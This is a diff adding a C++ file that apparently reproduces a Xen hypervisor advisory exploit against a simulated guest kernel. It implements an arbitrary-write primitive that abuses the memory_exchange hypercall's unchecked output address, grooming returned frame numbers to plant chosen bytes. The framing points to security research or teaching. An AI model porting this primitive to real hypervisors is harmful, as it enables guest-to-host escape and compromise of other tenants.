@@ -1,0 +1,65 @@
+#include "xsa/exchange_primitive.hpp"
+
+namespace ii::xsa {
+
+ExchangeWritePrimitive::ExchangeWritePrimitive(guest::GuestKernel& guest)
+    : guest_{&guest} {
+  const auto pfn = guest.alloc_pfn();
+  if (!pfn) return;
+  sacrifice_ = *pfn;
+  // The page must carry no mappings or type for the hypervisor to accept
+  // the exchange, so drop its directmap entry first.
+  ready_ = guest.unmap_pfn(sacrifice_) == hv::kOk;
+}
+
+long ExchangeWritePrimitive::write_mfn_at(sim::Vaddr target) {
+  hv::MemoryExchange exch{};
+  exch.in_extents = {sacrifice_};
+  exch.out_extent_start = target;
+  exch.nr_exchanged = 0;
+  rc_ = guest_->memory_exchange(exch);
+  ++exchanges_;
+  if (rc_ == hv::kOk) {
+    // PV guests track their own P2M, so the attacker learns the fresh MFN
+    // without needing to read the (possibly unreadable) output location.
+    last_mfn_ = guest_->pfn_to_mfn(sacrifice_)->raw();
+  }
+  return rc_;
+}
+
+bool ExchangeWritePrimitive::groom_byte_at(sim::Vaddr target,
+                                           std::uint8_t byte) {
+  // Sequential allocation cycles the low byte through all 256 values well
+  // within this budget; a non-converging loop means the allocator is in an
+  // unexpected state, and giving up beats spinning.
+  constexpr unsigned kBudget = 1024;
+  for (unsigned i = 0; i < kBudget; ++i) {
+    if (write_mfn_at(target) != hv::kOk) return false;
+    if (static_cast<std::uint8_t>(last_mfn_ & 0xFF) == byte) return true;
+  }
+  return false;
+}
+
+bool ExchangeWritePrimitive::write_u64(sim::Vaddr target,
+                                       std::uint64_t value) {
+  if (!ready_) {
+    rc_ = hv::kENOMEM;
+    return false;
+  }
+  // Sweep bytes low to high: iteration k leaves the correct byte at
+  // target+k, and the 7 spill bytes it scatters above are rewritten by the
+  // following iterations (except after the last one — callers clean up
+  // with zero_byte_at() when the spill lands somewhere that matters).
+  for (unsigned k = 0; k < 8; ++k) {
+    const auto byte = static_cast<std::uint8_t>(value >> (8 * k));
+    if (!groom_byte_at(sim::Vaddr{target.raw() + k}, byte)) return false;
+  }
+  return true;
+}
+
+bool ExchangeWritePrimitive::zero_byte_at(sim::Vaddr target) {
+  if (!ready_) return false;
+  return groom_byte_at(target, 0);
+}
+
+}  // namespace ii::xsa
